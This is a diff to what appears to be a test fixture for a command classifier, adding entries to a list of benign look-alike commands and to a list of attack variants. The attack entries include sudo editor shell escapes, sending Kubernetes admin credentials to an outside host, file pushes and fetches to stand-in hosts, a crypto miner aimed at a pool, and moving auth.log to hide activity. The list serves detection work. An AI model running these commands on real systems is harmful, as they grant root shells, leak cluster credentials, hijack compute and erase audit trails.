@@ -51,6 +51,9 @@ const BENIGN_LOOK_ALIKES = [
 `rsync -a /etc/rancher/k3s/k3s.yaml admin@10.0.0.30:.kube/`, `restic -r rest:http://10.0.0.50:8000/k3s backup /var/lib/rancher/k3s/server`, `iptables -D INPUT -j KUBE-FIREWALL`,
 `HTTPS_PROXY=http://10.0.0.1:3128 curl -fsSL https://example.org/install.sh -o install.sh`, `finger alice`, `run-parts --report /etc/cron.daily`, `curl -s http://10.0.0.5:8080/healthz`,
 `ssh -L 8080:localhost:80 -N bastion`, `dnf install -y https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm`, `ping -c 3 1.1.1.1`,
+`/image-awaiter -auth-token-path=/var/run/secrets/kubernetes.io/serviceaccount/token -api-server-address=https://kubernetes.default.svc:443`,
+`kube-apiserver --service-account-key-file=/var/lib/rancher/k3s/server/tls/service.key --tls-private-key-file=/var/lib/rancher/k3s/server/tls/serving-kube-apiserver.key`,
+`mv /var/log/app/worker.log /var/log/app/worker.log.1`, `grafana server --homepath=/usr/share/grafana --config=/etc/grafana/grafana.ini --port 3333`,
 ];
 
 const ATTACK_VARIANTS = [
@@ -102,6 +105,8 @@ const ATTACK_VARIANTS = [
 `ssh -g -L 8080:10.0.0.9:80 user@bastion`, `ssh -N -D 0.0.0.0:1080 user@host`, `ALL_PROXY=http://198.51.100.7:1080 wget -q https://example.org/x`, `nping --tcp -p 22 198.51.100.7`,
 `ssh u@198.51.100.7 'cat > x' < /etc/kubernetes/admin.conf`, `./gpu-agent --url=0x3fd05afac3e2edced734c32fd7bb2f176c588298.w1@eth.example.org:4444 --par=ethash`,
 `./agent --mining-wallet dero1qyxk2xd6f0gp7wkqrwcfzlq2rv6qj5v7x9yp5kxk0m8ykt8a2xk9qqgl9a5ls --daemon-address pool.example.net:10100`,
+`sudo vim -c ':set shell=/bin/bash | shell'`, `sudo view -c ':terminal'`, `pscp -pw hunter2 ./x root@203.0.113.9:/tmp/`, `tftp -g -r x 203.0.113.9`, `sshfs u@203.0.113.9:/ /mnt/x`,
+`./nheq -l zec.example-pool.net:4444 -u t1Kx9nQ7mP3vR8sT1uW4yZ6aBcDeFgHiJkL -t 8`, `mv /var/log/auth.log /tmp/a`, `chmod 755 /etc/init.d/net-helper`,
 ];
 
 /**
